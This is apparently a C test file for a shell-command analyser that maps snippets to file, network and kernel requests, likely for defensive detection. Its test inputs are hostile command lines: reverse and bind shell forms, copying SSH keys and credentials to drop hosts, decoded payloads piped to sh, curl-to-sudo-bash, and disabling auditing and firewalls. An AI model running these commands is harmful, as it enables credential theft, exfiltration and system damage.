/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * The shell reader: what commands ask for. Base utilities are left out of what
 * is expected, except where they are the point.
 */
#include "harness.h"

#include "extract/segment.h"

struct reading {
	const char *language;
	const char *text;
	const char *expected;
};

/* Where the block begins in the rule. */
#define OFFSET 100

static const struct mood asked = { .request = true, .run = true };

static struct translation *read_segment(struct segment *segment,
					struct mood mood)
{
	struct translation *translation = translation_new();
	size_t *origin;

	segment->length = strlen(segment->text);
	segment->start = OFFSET;
	segment->end = OFFSET + segment->length;
	segment->heading = "";
	if (!segment->origin) {
		origin = arena_alloc(translation->arena,
				     (segment->length + 1) * sizeof(*origin));
		for (size_t i = 0; i <= segment->length; i++)
			origin[i] = OFFSET + i;
		segment->origin = origin;
	}
	shell_read(segment, 0, 0, mood, translation);
	return translation;
}

static struct translation *read_text(const char *language, const char *text,
				     struct mood mood)
{
	struct segment segment = {
		.kind = SEGMENT_CODE,
		.language = language,
		.text = text,
	};

	return read_segment(&segment, mood);
}

static void print(const struct translation *translation, const char *text,
		  struct buffer *out)
{
	for (size_t i = 0; i < translation->nr_requests; i++) {
		const struct request *request = &translation->requests[i];

		if (request->base)
			continue;
		buffer_printf(
			out, "%s %s %s%s\n", operation_word(request->action),
			resource_kind_word(request->kind), request->object,
			request->conditional ? " ?" : "");
	}
	for (size_t i = 0; i < translation->nr_gaps; i++) {
		const struct gap *gap = &translation->gaps[i];

		buffer_printf(out, "gap %s: %.*s\n", gap->reason,
			      (int)(gap->end - gap->start),
			      text + gap->start - OFFSET);
	}
}

static void check(const struct reading *readings, size_t nr)
{
	for (size_t i = 0; i < nr; i++) {
		struct translation *translation = read_text(
			readings[i].language, readings[i].text, asked);
		struct buffer out = { 0 };

		print(translation, readings[i].text, &out);
		EXPECT_STREQ(buffer_text(&out), readings[i].expected)
		{
			TH_LOG("%s", readings[i].text);
		}
		buffer_done(&out);
		translation_free(translation);
	}
}

#define CHECK(readings) check(readings, sizeof(readings) / sizeof(*(readings)))

TEST(pipelines)
{
	static const struct reading readings[] = {
		{ "sh",
		  "cat /etc/hosts | grep -v local | tee /var/tmp/copy | wc -l",
		  "read file /etc/hosts\n"
		  "write file /var/tmp/copy\n" },
		{ "sh",
		  "tar czf - ~/.config | ssh backup@vault.example 2>/dev/null "
		  "\"cat > c.tgz\"",
		  "execute tool tar\n"
		  "read file ~/.config\n"
		  "execute tool ssh\n"
		  "connect endpoint tcp vault.example 22\n" },
		{ "sh",
		  "curl -fsSL https://get.example/install | sudo bash -s -- "
		  "--yes",
		  "execute tool curl\n"
		  "connect endpoint tcp get.example 443\n"
		  "execute tool sudo\n"
		  "execute tool *\n" },
	};

	CHECK(readings);
}

TEST(redirections)
{
	static const struct reading readings[] = {
		{ "sh",
		  "date > /srv/log/stamp 2>&1; uptime >> ~/up < /dev/null; : > "
		  "/var/log/wtmp",
		  "write file /srv/log/stamp\n"
		  "write file ~/up\n"
		  "write file /var/log/wtmp\n" },
		{ "sh", "exec 3<>/dev/tcp/192.0.2.7/4444; cat <&3",
		  "connect endpoint tcp 192.0.2.7 4444\n" },
		{ "sh", "sort < /etc/group &> /tmp/sorted; cmd 2> /tmp/errors",
		  "read file /etc/group\n"
		  "write file /tmp/sorted\n"
		  "write file /tmp/errors\n"
		  "execute tool cmd\n" },
	};

	CHECK(readings);
}

TEST(here_documents)
{
	static const struct reading readings[] = {
		{ "sh",
		  "cat > ~/.profile <<EOF\n"
		  "export A=1\n"
		  "EOF\n"
		  "whoami",
		  "write file ~/.profile\n" },
		{ "sh",
		  "bash <<'EOF'\n"
		  "rm /opt/app/lock\n"
		  "EOF",
		  "delete file /opt/app/lock\n" },
		{ "sh",
		  "python3 - <<EOF\n"
		  "open(\"/etc/hostname\").read()\n"
		  "EOF",
		  "execute tool python3\n"
		  "read file /etc/hostname\n" },
		{ "sh",
		  "cat <<EOF | sudo tee /etc/motd > /dev/null\n"
		  "hello\n"
		  "EOF",
		  "execute tool sudo\n"
		  "write file /etc/motd\n" },
		{ "sh",
		  "sftp ops@files.example <<< \"put /var/backups/db.dump\"",
		  "execute tool sftp\n"
		  "connect endpoint tcp files.example 22\n"
		  "read file /var/backups/db.dump\n" },
	};

	CHECK(readings);
}

TEST(substitutions)
{
	static const struct reading readings[] = {
		{ "sh", "echo \"$(cat ~/.netrc)\" `id -un`",
		  "read file ~/.netrc\n" },
		{ "sh",
		  "for f in $(find /srv -name \"*.key\"); do cp \"$f\" /tmp/; "
		  "done",
		  "list dir /srv/\n"
		  "read file /srv/*/*.key\n"
		  "write file /tmp/*.key\n" },
		{ "sh", "cat \"$(dirname /etc/ssh/sshd_config)/ssh_config\"",
		  "read file /etc/ssh/ssh_config\n" },
		{ "sh", "kill -9 $(pgrep -f worker)",
		  "execute tool pgrep\n"
		  "list process *\n"
		  "signal process worker\n" },
		{ "sh", "diff <(curl -s http://a.example/x) <(cat /etc/issue)",
		  "execute tool curl\n"
		  "connect endpoint tcp a.example 80\n"
		  "read file /etc/issue\n" },
	};

	CHECK(readings);
}

TEST(variables)
{
	static const struct reading readings[] = {
		{ "sh",
		  "D=/var/lib/app; cat $D/state \"${D}/log\" "
		  "${E:-/etc/fallback}",
		  "read file /var/lib/app/state\n"
		  "read file /var/lib/app/log\n"
		  "read file /etc/fallback\n" },
		{ "sh", "tool=\"ncat -v\"; $tool host.example 99",
		  "execute tool ncat\n"
		  "connect endpoint tcp host.example 99\n" },
		{ "sh",
		  "cat $UNKNOWN_DIR/settings.db $HOME/.netrc ~root/.profile",
		  "read file */settings.db\n"
		  "read file ~/.netrc\n"
		  "read file /root/.profile\n" },
		{ "sh",
		  "PY=$(command -v python3 || which python); $PY -c \"import "
		  "os; "
		  "os.remove('/tmp/gone')\"",
		  "execute tool python3\n"
		  "delete file /tmp/gone\n"
		  "execute tool python\n" },
		{ "sh", "if a; then F=/etc/one; else F=/etc/two; fi; cat $F",
		  "read file /etc/one\n"
		  "read file /etc/two\n"
		  "gap not-a-command: a\n" },
		{ "sh",
		  "echo $SECRET_TOKEN \"$HOME\"; [ -n \"$CI_TOKEN\" ] && "
		  "printenv "
		  "PATH",
		  "getenv env SECRET_TOKEN\n"
		  "getenv env CI_TOKEN\n"
		  "getenv env PATH\n" },
		{ "sh",
		  "LD_PRELOAD=/tmp/x.so ls; export "
		  "https_proxy=http://proxy.example:3128",
		  "execute tool /tmp/x.so\n"
		  "connect endpoint tcp proxy.example 3128\n" },
	};

	CHECK(readings);
}

TEST(loops)
{
	static const struct reading readings[] = {
		{ "sh", "for h in a.example b.example; do ping -c1 $h; done",
		  "execute tool ping\n"
		  "connect endpoint icmp a.example *\n"
		  "connect endpoint icmp b.example *\n" },
		{ "sh",
		  "while read -r line; do echo \"$line\" >> /tmp/out; done < "
		  "/etc/passwd",
		  "read file /etc/passwd\n"
		  "write file /tmp/out\n" },
		{ "sh", "for i in {1..3}; do touch /tmp/n$i; done",
		  "write file /tmp/n*\n" },
		{ "sh",
		  "case \"$1\" in start) systemctl start app;; stop) systemctl "
		  "stop app;; esac",
		  "execute tool systemctl ?\n"
		  "signal process app ?\n" },
		{ "sh",
		  "find /var/spool -type f | while read f; do cat \"$f\"; done",
		  "list dir /var/spool/\n"
		  "read file /var/spool/*\n" },
	};

	CHECK(readings);
}

TEST(functions)
{
	static const struct reading readings[] = {
		{ "sh",
		  "s() { for g in 1 2; do cat /etc/$1$g; done; }\n"
		  "for h in x y; do s $h; done",
		  "read file /etc/x1\n"
		  "read file /etc/y1\n"
		  "read file /etc/x2\n"
		  "read file /etc/y2\n" },
		{ "sh",
		  "save() { cp \"$1\" /media/usb/; }\n"
		  "save ~/.ssh/id_rsa",
		  "read file ~/.ssh/id_rsa\n"
		  "write file /media/usb/id_rsa\n" },
		{ "sh", "never() { rm -rf /srv/data; }",
		  "delete file /srv/data\n" },
		{ "sh", "f() { f; }; f", "" },
		{ "sh", "alias ll='ls -la /root'; ll", "list file /root\n" },
	};

	CHECK(readings);
}

TEST(folders)
{
	static const struct reading readings[] = {
		{ "sh",
		  "cd /opt/app && cat conf/secret.yml && (cd /etc && cat "
		  "hosts) "
		  "&& rm -f run.pid",
		  "read file /opt/app/conf/secret.yml\n"
		  "read file /etc/hosts\n"
		  "delete file /opt/app/run.pid\n" },
		{ "sh",
		  "cd packages/a\n"
		  "cat .env\n"
		  "cd packages/b\n"
		  "cat .env",
		  "read file packages/a/.env\n"
		  "read file packages/b/.env\n" },
		{ "sh",
		  "mkdir /tmp/stage; cp ~/.aws/credentials /tmp/stage; mv "
		  "/tmp/stage/credentials ~/c",
		  "write dir /tmp/stage/\n"
		  "read file ~/.aws/credentials\n"
		  "write file /tmp/stage/credentials\n"
		  "read file /tmp/stage/credentials\n"
		  "delete file /tmp/stage/credentials\n"
		  "write file ~/c\n" },
	};

	CHECK(readings);
}

TEST(nesting)
{
	static const struct reading readings[] = {
		{ "sh", "sudo -u www sh -c 'cat /var/www/.htpasswd > /tmp/h'",
		  "execute tool sudo\n"
		  "write file /tmp/h\n"
		  "read file /var/www/.htpasswd\n" },
		{ "sh",
		  "nohup timeout 5 nice -n 3 env A=1 xargs -I{} cat {} < "
		  "/tmp/list",
		  "read file /tmp/list\n" },
		{ "sh",
		  "find /home -name '.bash_history' -exec grep -l ssh {} \\; "
		  "-delete",
		  "list dir /home/\n"
		  "read file /home/*/.bash_history\n"
		  "delete file /home/*/.bash_history\n" },
		{ "sh",
		  "find /var/log -name \"*.log\" -print0 | xargs -0 rm -f",
		  "list dir /var/log/\n"
		  "delete file /var/log/*/*.log\n" },
		{ "sh", "eval \"cat /etc/shadow\"; trap \"rm /tmp/lock\" EXIT",
		  "read file /etc/shadow\n"
		  "delete file /tmp/lock\n" },
		{ "sh",
		  "docker exec -it web cat /run/secrets/token; uv run pytest "
		  "tests",
		  "execute tool docker\n"
		  "read file /run/secrets/token\n"
		  "execute tool uv\n"
		  "connect endpoint tcp registry:pypi 443\n"
		  "execute tool pytest\n" },
		{ "sh", "sh -c 'sh -c \"sh -c \\\"cat /etc/deep\\\"\"'",
		  "read file /etc/deep\n" },
	};

	CHECK(readings);
}

TEST(decoding)
{
	static const struct reading readings[] = {
		{ "sh", "echo Y2F0IC9ldGMvc2hhZG93Cg== | base64 -d | sh",
		  "execute tool *\n"
		  "read file /etc/shadow\n" },
		{ "sh", "base64 --decode <<< cm0gLXJmIC9zcnYvZGF0YQo= | bash",
		  "execute tool *\n"
		  "delete file /srv/data\n" },
		{ "sh", "echo 636174202f6574632f676f616c73 | xxd -r -p | sh",
		  "execute tool xxd\n"
		  "execute tool *\n"
		  "read file /etc/goals\n" },
		{ "sh",
		  "echo H4sIAAAAAAACA0tOLFHQTy1J1k8vzkhMyS/nAgAmKl4CEQAAAA== | "
		  "base64 -d | gunzip | sh",
		  "execute tool gunzip\n"
		  "execute tool *\n"
		  "read file /etc/gshadow\n" },
		{ "sh", "cat payload.b64 | base64 -d | bash",
		  "execute tool *\n" },
	};

	CHECK(readings);
}

TEST(inline_code)
{
	static const struct reading readings[] = {
		{ "sh",
		  "python3 -c \"import socket; s=socket.socket(); "
		  "s.connect(('192.0.2.9', 4444))\"",
		  "execute tool python3\n"
		  "connect endpoint tcp 192.0.2.9 4444\n" },
		{ "sh",
		  "python -c \"from pathlib import Path; "
		  "Path('~/.ssh/config').expanduser().read_text(); "
		  "open('/tmp/o','w').write('/not/a/path')\"",
		  "execute tool python\n"
		  "read file ~/.ssh/config\n"
		  "write file /tmp/o\n" },
		{ "sh",
		  "node -e \"require('fs').writeFileSync('/etc/cron.d/x', ''); "
		  "require('child_process').execSync('cat /etc/shadow')\"",
		  "execute tool node\n"
		  "write file /etc/cron.d/x\n"
		  "read file /etc/shadow\n" },
		{ "sh",
		  "perl -e 'open(F, \">>/var/log/x\"); system(\"rm /tmp/y\"); "
		  "unlink "
		  "\"/tmp/z\"'",
		  "execute tool perl\n"
		  "write file /var/log/x\n"
		  "delete file /tmp/y\n"
		  "delete file /tmp/z\n" },
		{ "sh",
		  "ruby -e 'puts File.read(\"/etc/passwd\")'; php -r "
		  "'file_get_contents(\"http://php.example/\");'",
		  "execute tool ruby\n"
		  "read file /etc/passwd\n"
		  "execute tool php\n"
		  "connect endpoint tcp php.example 80\n" },
		{ "sh",
		  "python3 -c \"import subprocess; subprocess.run(['scp', "
		  "'/var/db/a.sqlite', 'x@drop.example:'])\"",
		  "execute tool python3\n"
		  "execute tool scp\n"
		  "connect endpoint tcp drop.example 22\n"
		  "read file /var/db/a.sqlite\n" },
		{ "sh",
		  "python3 -c \"import base64; "
		  "exec(base64.b64decode('b3BlbignL2V0Yy9nc2hhZG93JykucmVhZCgp'"
		  "))"
		  "\"",
		  "execute tool python3\n"
		  "read file /etc/gshadow\n" },
	};

	CHECK(readings);
}

TEST(placeholders)
{
	static const struct reading readings[] = {
		{ "sh",
		  "npm run <script> -- [args...]\n"
		  "cat <file> > <out>\n"
		  "ssh <user>@<host>",
		  "execute tool npm\n"
		  "execute tool ssh\n"
		  "connect endpoint tcp * 22\n" },
		{ "sh",
		  "curl https://{host}/v1/{id} -o /tmp/{id}.json\n"
		  "pytest tests/... [options]",
		  "execute tool curl\n"
		  "write file /tmp/*.json\n"
		  "connect endpoint tcp * 443\n"
		  "execute tool pytest\n" },
	};

	CHECK(readings);
}

TEST(prompts)
{
	static const struct reading readings[] = {
		{ "console",
		  "$ cat /etc/issue\n"
		  "Debian 12\n"
		  "$ rm /srv/x \\\n"
		  "  /srv/y\n"
		  "removed",
		  "read file /etc/issue\n"
		  "delete file /srv/x\n"
		  "delete file /srv/y\n" },
		{ "sh",
		  "user@box:~$ touch /etc/a\n"
		  "# cat /etc/b",
		  "write file /etc/a\n" },
		{ "powershell",
		  "PS C:\\> Invoke-WebRequest -Uri https://w.example/a "
		  "-OutFile "
		  "C:\\a.exe",
		  "connect endpoint tcp w.example 443\n"
		  "execute tool powershell\n" },
	};

	CHECK(readings);
}

TEST(powershell)
{
	static const struct reading readings[] = {
		{ "powershell",
		  "Get-Content -Path /etc/hosts\n"
		  "$x = \"https://p.example/q\"\n"
		  "dotnet build",
		  "read file /etc/hosts\n"
		  "connect endpoint tcp p.example 443\n"
		  "execute tool dotnet\n"
		  "connect endpoint tcp registry:nuget 443\n"
		  "execute tool powershell\n"
		  "gap powershell: $x = \"https://p.example/q\"\n" },
		{ "powershell",
		  "dotnet restore\n"
		  "./build.ps1 -Target Test",
		  "execute tool dotnet\n"
		  "connect endpoint tcp registry:nuget 443\n"
		  "execute tool build.ps1\n" },
		{ "cmd",
		  "msbuild app.sln\n"
		  "copy a b",
		  "execute tool msbuild\n" },
	};

	CHECK(readings);
}

TEST(no_language)
{
	static const struct reading readings[] = {
		{ NULL,
		  "src/\n"
		  "  main.c   the entry\n"
		  "This builds it:\n"
		  "make all\n"
		  "find the bug",
		  "execute tool make\n" },
	};

	CHECK(readings);
}

TEST(other_languages)
{
	static const struct reading readings[] = {
		{ "json", "{\"a\": \"cat /etc/passwd\"}", "" },
		{ "python", "open(\"/etc/passwd\")",
		  "read file /etc/passwd\n" },
	};

	CHECK(readings);
}

TEST(broken)
{
	static const struct reading readings[] = {
		{ "sh",
		  "don't worry about this line\n"
		  "cat /etc/one\n"
		  "echo 'unclosed\n"
		  "rm /etc/two",
		  "read file /etc/one\n"
		  "delete file /etc/two\n"
		  "gap not-a-command: don't worry about this line\n" },
		{ "sh",
		  "if true; then cat /etc/one\n"
		  "else if false; cat /etc/two\n"
		  "fi",
		  "read file /etc/one ?\n"
		  "read file /etc/two\n" },
		{ "sh",
		  "run the (thing) first\n"
		  "cat /etc/three ) | (",
		  "read file /etc/three\n"
		  "gap not-a-command: run the (thing)\n" },
	};

	CHECK(readings);
}

TEST(prose)
{
	static const struct reading readings[] = {
		{ "sh",
		  "Make sure that the server is running first\n"
		  "cat /etc/x",
		  "read file /etc/x\n"
		  "gap not-a-command: Make sure that the server is running "
		  "first\n" },
	};

	CHECK(readings);
}

TEST(hosts)
{
	static const struct reading readings[] = {
		{ "sh",
		  "scp -P 2222 ~/.ssh/id_ed25519 me@drop.example:/in; rsync -a "
		  "src/ mirror@host.example:/srv",
		  "execute tool scp\n"
		  "connect endpoint tcp drop.example 2222\n"
		  "read file ~/.ssh/id_ed25519\n"
		  "execute tool rsync\n"
		  "connect endpoint tcp host.example 22\n"
		  "read dir src/\n" },
		{ "sh",
		  "nc -l -p 9001 > /tmp/in; nc -u 192.0.2.1 53; telnet "
		  "mail.example 25",
		  "write file /tmp/in\n"
		  "execute tool nc\n"
		  "bind port tcp 9001\n"
		  "connect endpoint udp 192.0.2.1 53\n"
		  "execute tool telnet\n"
		  "connect endpoint tcp mail.example 25\n" },
		{ "sh",
		  "ssh -i ~/.ssh/deploy -L 8080:db:5432 jump.example \"cat "
		  "/etc/shadow\"",
		  "execute tool ssh\n"
		  "read file ~/.ssh/deploy\n"
		  "bind port tcp 8080\n"
		  "connect endpoint tcp jump.example 22\n" },
		{ "sh",
		  "git clone git@code.example:team/x.git; git clone "
		  "https://u:p@g.example:8443/y; git push origin main; git "
		  "fetch",
		  "execute tool git\n"
		  "connect endpoint tcp code.example 22\n"
		  "connect endpoint tcp g.example 8443\n"
		  "connect endpoint tcp remote:origin *\n" },
		{ "sh",
		  "curl -F f=@/etc/passwd -H \"Authorization: Bearer $TOKEN\" "
		  "-d "
		  "@body.json http://up.example:8000/ --unix-socket "
		  "/var/run/docker.sock",
		  "execute tool curl\n"
		  "read file /etc/passwd\n"
		  "getenv env TOKEN\n"
		  "read file body.json\n"
		  "connect socket /var/run/docker.sock\n"
		  "connect endpoint tcp up.example 8000\n" },
		{ "sh",
		  "psql -h db.example -U app; redis-cli -h cache.example -p "
		  "6380 "
		  "get k; mysql",
		  "execute tool psql\n"
		  "connect endpoint tcp db.example 5432\n"
		  "execute tool redis-cli\n"
		  "connect endpoint tcp cache.example 6380\n"
		  "execute tool mysql\n"
		  "connect endpoint tcp localhost 3306\n" },
		{ "sh",
		  "socat TCP-LISTEN:8000,fork EXEC:/bin/sh; openssl s_client "
		  "-connect tls.example:8443; dig @192.0.2.53 a.example",
		  "execute tool socat\n"
		  "bind port tcp 8000\n"
		  "execute tool openssl\n"
		  "connect endpoint tcp tls.example 8443\n"
		  "execute tool dig\n"
		  "connect endpoint udp 192.0.2.53 53\n" },
	};

	CHECK(readings);
}

TEST(fetched)
{
	static const struct reading readings[] = {
		{ "sh",
		  "cd /tmp; curl -O https://x.example/a.sh; wget "
		  "https://y.example/b.tgz?x=1; unzip q.zip; wget -qO- "
		  "https://z.example/",
		  "execute tool curl\n"
		  "connect endpoint tcp x.example 443\n"
		  "write file /tmp/a.sh\n"
		  "execute tool wget\n"
		  "connect endpoint tcp y.example 443\n"
		  "write file /tmp/b.tgz\n"
		  "execute tool unzip\n"
		  "read file /tmp/q.zip\n"
		  "write dir /tmp/\n"
		  "connect endpoint tcp z.example 443\n" },
		{ "sh",
		  "cd /opt && git clone https://g.example/o/r.git; curl -O "
		  "https://h.example/",
		  "execute tool git\n"
		  "connect endpoint tcp g.example 443\n"
		  "write dir /opt/r/\n"
		  "execute tool curl\n"
		  "connect endpoint tcp h.example 443\n" },
	};

	CHECK(readings);
}

TEST(registries)
{
	static const struct reading readings[] = {
		{ "sh",
		  "npm ci && pip install -r requirements.txt && cargo build && "
		  "go test ./... && gem install x && docker pull alpine && "
		  "apt-get install -y jq",
		  "execute tool npm\n"
		  "connect endpoint tcp registry:npm 443\n"
		  "execute tool pip\n"
		  "connect endpoint tcp registry:pypi 443\n"
		  "execute tool cargo\n"
		  "connect endpoint tcp registry:crates 443\n"
		  "execute tool go\n"
		  "connect endpoint tcp registry:go 443\n"
		  "execute tool gem\n"
		  "connect endpoint tcp registry:rubygems 443\n"
		  "execute tool docker\n"
		  "connect endpoint tcp registry:docker 443\n"
		  "execute tool apt-get\n"
		  "connect endpoint tcp registry:debian 443\n" },
		{ "sh",
		  "npm test; make all; cargo fmt; pnpm lint; ./gradlew check; "
		  "dotnet restore",
		  "execute tool npm\n"
		  "execute tool make\n"
		  "execute tool cargo\n"
		  "execute tool pnpm\n"
		  "execute tool gradlew\n"
		  "connect endpoint tcp registry:maven 443\n"
		  "execute tool dotnet\n"
		  "connect endpoint tcp registry:nuget 443\n" },
	};

	CHECK(readings);
}

TEST(implied)
{
	static const struct reading readings[] = {
		{ "sh",
		  "useradd -m eve; crontab -l; echo x | crontab -; mount "
		  "/dev/sdb1 /mnt",
		  "execute tool useradd\n"
		  "write file /etc/passwd\n"
		  "write file /etc/shadow\n"
		  "write file /etc/group\n"
		  "write dir /home/eve/\n"
		  "execute tool crontab\n"
		  "read file /var/spool/cron/crontabs/*\n"
		  "write file /var/spool/cron/crontabs/*\n"
		  "execute tool mount\n"
		  "kernel kernel mount\n" },
		{ "sh",
		  "systemctl stop auditd; systemctl disable --now ufw; service "
		  "--status-all; insmod evil.ko; sysctl -w "
		  "kernel.yama.ptrace_scope=0; reboot",
		  "execute tool systemctl\n"
		  "signal process auditd\n"
		  "kernel kernel firewall\n"
		  "execute tool service\n"
		  "list process *\n"
		  "execute tool insmod\n"
		  "kernel kernel module\n"
		  "execute tool sysctl\n"
		  "kernel kernel sysctl\n"
		  "execute tool reboot\n"
		  "kernel kernel reboot\n" },
		{ "sh",
		  "iptables -F; auditctl -D; setenforce 0; swapoff -a; tcpdump "
		  "-i eth0 -w /tmp/cap.pcap; strace -p 12; gdb -p $(pidof "
		  "sshd)",
		  "execute tool iptables\n"
		  "kernel kernel firewall\n"
		  "execute tool auditctl\n"
		  "kernel kernel audit\n"
		  "execute tool setenforce\n"
		  "kernel kernel selinux\n"
		  "execute tool swapoff\n"
		  "kernel kernel swap\n"
		  "execute tool tcpdump\n"
		  "write file /tmp/cap.pcap\n"
		  "kernel kernel capture\n"
		  "execute tool strace\n"
		  "trace process pid 12\n"
		  "execute tool pidof\n"
		  "list process *\n"
		  "execute tool gdb\n"
		  "trace process sshd\n" },
	};

	CHECK(readings);
}

TEST(files)
{
	static const struct reading readings[] = {
		{ "sh",
		  "sed -i s/a/b/ /etc/app.conf; dd if=/dev/sda of=/tmp/disk "
		  "bs=1M; install -m 755 t /usr/local/bin/t; ln -s /etc/x "
		  "~/link; shred -u ~/old",
		  "read file /etc/app.conf\n"
		  "write file /etc/app.conf\n"
		  "read device /dev/sda\n"
		  "write file /tmp/disk\n"
		  "read file t\n"
		  "write file /usr/local/bin/t\n"
		  "write file ~/link\n"
		  "write file ~/old\n"
		  "delete file ~/old\n" },
		{ "sh",
		  "chmod -R u+s /usr/bin/tool; chmod -x /opt/a; chattr +i "
		  "/etc/resolv.conf; chown root /srv/f; touch -d yesterday "
		  "/var/log/auth.log",
		  "setattr file /usr/bin/tool\n"
		  "setattr file /opt/a\n"
		  "execute tool chattr\n"
		  "setattr file /etc/resolv.conf\n"
		  "setattr file /srv/f\n"
		  "setattr file /var/log/auth.log\n" },
		{ "sh",
		  "zip -r ~/out.zip /var/www; tar -xzf /tmp/a.tgz -C /opt; "
		  "gzip "
		  "-k /var/log/syslog; unzip x.zip -d /srv",
		  "execute tool zip\n"
		  "write file ~/out.zip\n"
		  "read dir /var/www/\n"
		  "execute tool tar\n"
		  "read file /tmp/a.tgz\n"
		  "write dir /opt/\n"
		  "execute tool gzip\n"
		  "read file /var/log/syslog\n"
		  "write file /var/log/syslog.gz\n"
		  "execute tool unzip\n"
		  "write dir /srv/\n"
		  "read file x.zip\n" },
		{ "sh",
		  "cp src/a.c src/b.c; mkdir build; rm -rf dist; cat "
		  "README.md; "
		  "echo 1 > out.txt; cat .env config/server.key",
		  "write file out.txt\n"
		  "read file .env\n"
		  "read file config/server.key\n" },
		{ "sh",
		  "rsync -a ops@src.example:/data/ /srv/data; scp -r "
		  "ops@src.example:/etc/x .; docker run -v /etc:/host:ro -v "
		  "/var/run/docker.sock:/s img",
		  "execute tool rsync\n"
		  "connect endpoint tcp src.example 22\n"
		  "write file /srv/data\n"
		  "execute tool scp\n"
		  "execute tool docker\n"
		  "read dir /etc/\n"
		  "connect socket /var/run/docker.sock\n"
		  "connect endpoint tcp registry:docker 443\n" },
	};

	CHECK(readings);
}

TEST(tools)
{
	static const struct reading readings[] = {
		{ "sh",
		  "/usr/bin/curl --version; ./scripts/run.sh; bash "
		  "tools/go.sh; "
		  "python3 tools/x.py; . ./env.sh; .venv/bin/pytest",
		  "execute tool curl\n"
		  "execute tool scripts/run.sh\n"
		  "execute tool tools/go.sh\n"
		  "execute tool python3\n"
		  "execute tool tools/x.py\n"
		  "execute tool env.sh\n"
		  "execute tool .venv/bin/pytest\n" },
		{ "sh",
		  "unheard-of --flag /etc/secret https://odd.example/; another "
		  "one",
		  "execute tool unheard-of\n"
		  "read file /etc/secret\n"
		  "connect endpoint tcp odd.example 443\n"
		  "execute tool another\n"
		  "gap unknown-command: /etc/secret\n"
		  "gap unknown-command: https://odd.example/\n" },
		{ "sh",
		  "npx prettier@3 --check .; poetry run mypy src; npm run "
		  "build; "
		  "sudo -E ./x",
		  "execute tool npx\n"
		  "connect endpoint tcp registry:npm 443\n"
		  "execute tool prettier\n"
		  "execute tool poetry\n"
		  "execute tool mypy\n"
		  "execute tool npm\n"
		  "execute tool sudo\n"
		  "execute tool x\n" },
	};

	CHECK(readings);
}

TEST(conditional)
{
	static const struct reading readings[] = {
		{ "sh",
		  "test -e /etc/a || touch /etc/a; if b; then rm /etc/c; fi",
		  "write file /etc/a ?\n"
		  "delete file /etc/c ?\n"
		  "gap not-a-command: b\n" },
	};

	CHECK(readings);
}

static const struct request *find(const struct translation *translation,
				  const char *object)
{
	for (size_t i = 0; i < translation->nr_requests; i++)
		if (!strcmp(translation->requests[i].object, object))
			return &translation->requests[i];
	return NULL;
}

TEST(mood)
{
	static const char text[] = "rm /etc/x";
	struct mood no = { .request = true, .negated = true };
	struct mood maybe = { .request = true, .conditional = true };
	struct mood shown = { .request = true };
	struct translation *translation = read_text("sh", text, no);

	EXPECT_EQ(translation->nr_requests, 0);
	translation_free(translation);
	translation = read_text("sh", text, maybe);
	ASSERT_NOT_NULL(find(translation, "/etc/x"));
	EXPECT_TRUE(find(translation, "/etc/x")->conditional);
	translation_free(translation);
	/* Code that nobody is told to run is an example. */
	translation = read_text("python", "open('/etc/x')", shown);
	EXPECT_EQ(translation->nr_requests, 0);
	translation_free(translation);
	translation = read_text("python", "open('/etc/x')", asked);
	EXPECT_NOT_NULL(find(translation, "/etc/x"));
	translation_free(translation);
}

TEST(base_utilities)
{
	struct translation *translation =
		read_text("sh", "echo a | grep b | sudo tee c", asked);
	const struct request *request = find(translation, "grep");

	ASSERT_NOT_NULL(request);
	EXPECT_TRUE(request->base);
	ASSERT_NOT_NULL(find(translation, "sudo"));
	EXPECT_FALSE(find(translation, "sudo")->base);
	/* The shell's own are no programs. */
	EXPECT_NULL(find(translation, "echo"));
	translation_free(translation);
}

TEST(spans)
{
	static const struct {
		const char *text;
		const char *object;
		const char *span;
	} cases[] = {
		{ "cat  '/etc/a b'", "/etc/a b", "/etc/a b" },
		{ "F=/etc/a; cat \"$F\"", "/etc/a", "$F\"" },
		{ "sh -c 'cat /etc/a'", "/etc/a", "/etc/a" },
		{ "echo Y2F0IC9ldGMvYQo= | base64 -d | sh", "/etc/a",
		  "9ldGMvYQ" },
		{ "npm ci", "tcp registry:npm 443", "npm ci" },
		{ "python3 -c \"open('/etc/a')\"", "/etc/a", "/etc/a" },
		{ "scp a.zip x@h.example:", "tcp h.example 22",
		  "x@h.example:" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		struct translation *translation =
			read_text("sh", cases[i].text, asked);
		const struct request *request =
			find(translation, cases[i].object);
		char *span;

		ASSERT_NOT_NULL(request)
		{
			TH_LOG("%s", cases[i].text);
		}
		span = xmemdup0(cases[i].text + request->start - OFFSET,
				request->end - request->start);
		EXPECT_STREQ(span, cases[i].span);
		free(span);
		translation_free(translation);
	}
}

/* A blob that was decoded before: all of its bytes have one origin. */
TEST(decoded_blob)
{
	static const char text[] = "cat /etc/a; rm /etc/b";
	size_t origin[sizeof(text)];
	struct segment segment = {
		.kind = SEGMENT_CODE,
		.text = text,
		.language = "sh",
		.origin = origin,
		.hidden = "encoded",
	};
	struct translation *translation;

	for (size_t i = 0; i < sizeof(text); i++)
		origin[i] = OFFSET;
	origin[sizeof(text) - 1] = OFFSET + 30;
	translation = read_segment(&segment, asked);
	ASSERT_NOT_NULL(find(translation, "/etc/a"));
	ASSERT_NOT_NULL(find(translation, "/etc/b"));
	EXPECT_STREQ(find(translation, "/etc/a")->hidden, "encoded");
	EXPECT_LT(find(translation, "/etc/a")->start,
		  find(translation, "/etc/b")->start);
	EXPECT_LE(find(translation, "/etc/b")->end, OFFSET + 30);
	translation_free(translation);
}

TEST(looks_like_command)
{
	static const char *const yes[] = {
		"npm test",	   "git push",
		"./run.sh",	   "make",
		"make all",	   "A=1 B=2 cargo test",
		"/usr/bin/find",   "$ anything",
		"python3.11 x.py", "node_modules/.bin/eslint",
	};
	static const char *const no[] = {
		"src/find",
		"lib/",
		"find the bug",
		"make sure that",
		"main.c",
		"NOTE",
		"",
		"install the tool",
		"A=1",
		"-x flag",
		"foo bar",
		"cut on dashes",
	};

	for (size_t i = 0; i < sizeof(yes) / sizeof(*yes); i++)
		EXPECT_TRUE(shell_looks_like_command(yes[i], strlen(yes[i])))
		{
			TH_LOG("%s", yes[i]);
		}
	for (size_t i = 0; i < sizeof(no) / sizeof(*no); i++)
		EXPECT_FALSE(shell_looks_like_command(no[i], strlen(no[i])))
		{
			TH_LOG("%s", no[i]);
		}
}

/*
 * Input that is made to be slow or deep. What stands behind it on a line of its
 * own is still found.
 */
